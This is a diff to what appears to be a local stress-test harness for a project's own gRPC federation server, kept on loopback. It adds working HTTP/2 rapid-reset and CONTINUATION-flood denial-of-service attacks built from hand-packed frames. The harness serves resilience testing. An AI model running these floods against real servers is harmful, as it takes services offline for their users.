@@ -6,7 +6,9 @@ bits as one without an attack. Everything stays on loopback, and every attack en
   idle        connections that say nothing, more than the server has files
   knock       connections that are closed at once, as many as fit into the time
   strangers   TLS handshakes without a certificate
-  dashboard   connections to the dashboard that say nothing"""
+  dashboard   connections to the dashboard that say nothing
+  reset       HTTP/2 streams that are begun and reset at once, with an observer's certificate
+  continuation  HTTP/2 headers that never end, with an observer's certificate"""
 
 import argparse
 import contextlib
@@ -16,6 +18,7 @@ import shutil
 import socket
 import sqlite3
 import ssl
+import struct
 import subprocess
 import tempfile
 import time
@@ -77,7 +80,73 @@ def dashboard(target, end):
     return idle({"address": target["dashboard"]}, end)
 
 
-ATTACKS = {"idle": idle, "knock": knock, "strangers": strangers, "dashboard": dashboard}
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def headers():
+    """An Observe call's headers in HPACK: literals that are not indexed."""
+    pairs = [(":method", "POST"), (":scheme", "https"), (":path", "/leeway.v1.Federation/Observe"),
+             (":authority", "localhost"), ("te", "trailers"), ("content-type", "application/grpc")]
+    return b"".join(b"\0" + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode() for k, v in pairs)
+
+
+@contextlib.contextmanager
+def http2(target):
+    """A connection with the observer's certificate, past the preface."""
+    context = ssl.create_default_context(cafile=target["ca"])
+    context.load_cert_chain(target["certificate"], target["key"])
+    context.set_alpn_protocols(["h2"])
+    with connect(target["address"]) as plain, context.wrap_socket(
+            plain, server_hostname="localhost") as connection:
+        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+        yield connection
+
+
+def flood(target, end, pieces):
+    """Sends pieces (bytes, how many attempts they are) as fast as they are taken, on a new connection
+    whenever one is closed."""
+    count = 0
+    while time.monotonic() < end:
+        with contextlib.suppress(OSError):
+            with http2(target) as connection:
+                for piece, attempts in pieces():
+                    if time.monotonic() >= end:
+                        break
+                    connection.sendall(piece)
+                    count += attempts
+                    # What the server says must be read, or it stops reading from us.
+                    connection.settimeout(0)
+                    with contextlib.suppress(ssl.SSLWantReadError):
+                        if not connection.recv(1 << 16):
+                            break
+                    connection.settimeout(10)
+    return count
+
+
+def reset(target, end):
+    block = headers()
+
+    def pieces():
+        for first in range(1, 1 << 30, 200):
+            yield b"".join(frame(1, 4, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
+                           for stream in range(first, first + 200, 2)), 100
+
+    return flood(target, end, pieces)
+
+
+def continuation(target, end):
+    def pieces():
+        yield frame(1, 0, 1, headers()), 0
+        more = frame(9, 0, 1, b"\0" + b"\5x-abc" + b"\x7f\x81\x7e" + b"y" * (127 + 1 + 126 * 128)) * 4
+        while True:
+            yield more, 4
+
+    return flood(target, end, pieces)
+
+
+ATTACKS = {"idle": idle, "knock": knock, "strangers": strangers, "dashboard": dashboard, "reset": reset,
+           "continuation": continuation}
 
 
 def perform(kind, target, seconds, results):
